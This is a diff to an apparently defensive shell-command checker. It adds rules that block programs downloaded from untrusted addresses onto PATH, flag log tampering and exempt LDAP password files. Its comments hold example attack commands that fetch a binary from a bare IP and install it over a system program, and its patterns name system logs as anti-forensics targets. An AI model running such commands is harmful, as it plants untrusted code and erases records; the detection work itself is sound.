@@ -7,6 +7,7 @@ from fnmatch import fnmatchcase
 from .. import paths
 from . import admin
 from .commands import Cmd, has_flag, option_value, positionals
+from .identity import LDAP_TOOLS, login_files
 from .common import DOWNLOADERS
 from .words import Word, file_key
 
@@ -199,6 +200,10 @@ def check_args(a, cmd: Cmd) -> None:
 
         keys = ssh_key_words(cmd)  # `scp -i ~/.ssh/id_work f host:`: the key it logs in with, as `ssh -i` does
         words = [w for w in words if (w.node.start_byte, w.node.end_byte) not in keys]
+    elif cmd.name in LDAP_TOOLS:
+        # `ldapmodify -y /run/secrets/ldap_pw`: the password it binds with, as `ssh -i` (bash/identity.py)
+        keys = login_files(cmd)
+        words = [w for w in words if (w.node.start_byte, w.node.end_byte) not in keys]
     if cmd.name == "git":
         if any(w.value == "config" for w in words):
             return  # `git config user.signingkey ~/.ssh/id_ed25519` stores a path; it reads nothing
@@ -386,6 +391,8 @@ def judge_write(a, cmd_name: str, w: Word, how: str, cmd: Cmd | None = None) -> 
     elif paths.DEVICE in k:
         a.block("disk-wipe", f"{how} the block device {v}", w.node)
     elif paths.LOG in k:
+        if cmd is not None and _job_log_appended(a, cmd, w, v):
+            return
         a.block("anti-forensics", f"{how} the log or history file {v}", w.node)
     elif paths.SECRET in k:
         a.block("secret-read", f"{how} the credential file {v}", w.node)
@@ -710,10 +717,77 @@ def _hook_dir(path: str) -> str | None:
     return ".git/hooks" if _HOOK.match(paths.normalize(path)) else None
 
 
+# `restic check 2>&1 | tee -a /var/log/restic-check.log`, `>> /var/log/backup.log`: a job's own log added to. A log
+# emptied or overwritten, the system's own records (lines appended there are forged entries) and a shell's history
+# stay anti-forensics
+_SYSTEM_LOGS = re.compile(r"^/var/log/(?:auth|syslog|secure|messages|kern|daemon|user|debug|faillog|lastlog|[bw]tmp|"
+                          r"utmp|audit|journal|sudo|boot|dpkg|alternatives|apt|installer|cloud-init|mail|cron|ufw|"
+                          r"fail2ban|sssd|nginx|apache2|httpd|mysql|postgresql|samba|unattended-upgrades)(?:[./_-]|$)")
+_JOB_LOG = re.compile(r"^/var/log/(?:[\w.-]+/)?[\w.-]+\.log$")
+
+
+def _job_log_appended(a, cmd: Cmd, w: Word, v: str) -> bool:
+    p = paths.normalize(v)
+    return _JOB_LOG.match(p) is not None and _SYSTEM_LOGS.match(p) is None and ".." not in p and \
+        admin.appends(a, cmd, w)
+
+
+def _stranger_url(cmd: Cmd) -> str | None:
+    """The address a download fetches when no name vouches for it: a bare public address, or plain HTTP from
+    another machine."""
+    from ..hosts import loopback, public_ip, url_host
+
+    for w in cmd.args:
+        v = w.value or ""
+        if v.startswith(("http://", "https://")):
+            host = url_host(v) or ""
+            if public_ip(host) or v.startswith("http://") and host and not loopback(host) and "." in host:
+                return v
+    return None
+
+
+def _program_replaced(a, cmd: Cmd, w: Word) -> bool:
+    """`curl -o /tmp/kubectl http://203.0.113.25/…; sudo install /tmp/kubectl "$(command -v kubectl)"`: a file fetched
+    from where no name vouches for it put in place of a program on PATH, which every later use of that name runs."""
+    fetched = [(x.value or x.text, a.downloaded.strangers[k]) for x in copy_sources(cmd, w)
+               if (k := file_key(x)) is not None and k in a.downloaded.strangers]
+    if not fetched:
+        return False
+    at = w.value if w.value is not None else w.text
+    name = _ON_PATH.search(at)
+    if name is None:
+        return False
+    named = name.group(1) or name.group(2)
+    where = f"in place of {named}" if named else f"into {at}, a folder of programs run by name"
+    a.block("download-exec", f"`{cmd.name}` puts {fetched[0][0]}, fetched from {fetched[0][1]}, {where}: every later "
+                             "use of that program runs it; install tools from their vendor's release (checked against "
+                             "its published checksum)", w.node)
+    return True
+
+
+def _program_fetched(a, cmd: Cmd, w: Word, url: str) -> None:
+    """`sudo curl -so /usr/local/bin/fx-sync-agent http://203.0.113.9/agent`: the download itself put on PATH."""
+    at = w.value if w.value is not None else w.text
+    if _ON_PATH.search(at) and "/" in at.rstrip("/"):
+        a.block("download-exec", f"`{cmd.name}` saves {url} as {at}, a program run by name: every later use of that "
+                                 "name runs what that address served; install tools from their vendor's release "
+                                 "(checked against its published checksum)", w.node)
+
+
+# where a program is found by its name: the PATH folders, or the folder a name is found in now
+_ON_PATH = re.compile(r"^(?:/usr/local/s?bin|/usr/s?bin|/s?bin|/opt/homebrew/bin|~/\.local/bin|~/bin|\$HOME/\.local/bin|"
+                      r"\$HOME/bin)(?:/([\w.+-]+))?/?$|\$\((?:command -v|which|type -P) ([\w.+-]+)\)")
+
+
 def _writers(a, cmd: Cmd) -> None:
     if cmd.name in _CREDENTIAL_MOVERS and own_credential_copy(a, cmd) is not None:
         return  # (held for review by check_args)
+    if cmd.name in ("install", "cp", "mv") and a.downloaded.strangers and \
+            any(_program_replaced(a, cmd, w) for w in write_targets(cmd)):
+        return
     for w in write_targets(cmd):
+        if a.downloaded.strangers and cmd.name not in ("curl", "wget", "aria2c") and (k := file_key(w)) is not None:
+            a.downloaded.strangers.pop(k, None)  # written again from elsewhere: no longer the fetched file
         if _installs_project_hook(cmd, w):
             continue
         judge_write(a, cmd.name, w, f"`{cmd.name}` writes to", cmd)
@@ -728,10 +802,14 @@ def _writers(a, cmd: Cmd) -> None:
         if _STARTUP_HINT.search(at):
             startup_file(a, cmd, w, f"`{cmd.name}` writes")
     if cmd.name in ("curl", "wget", "aria2c"):
+        stranger = _stranger_url(cmd)
         for w in write_targets(cmd):
             key = file_key(w) if w.value != "" else None
             if key is not None:
                 a.downloaded[key] = "download"
+                if stranger is not None:
+                    a.downloaded.strangers[key] = stranger
+                    _program_fetched(a, cmd, w, stranger)
         if cmd.name == "curl" and has_flag(cmd.args, "O", ("--remote-name",)) or cmd.name == "wget" and not write_targets(cmd):
             # `wget -P DIR URL` saves under DIR
             dirs = [w.value for w in option_value(cmd.args, "-P", "--directory-prefix") if w.value] \
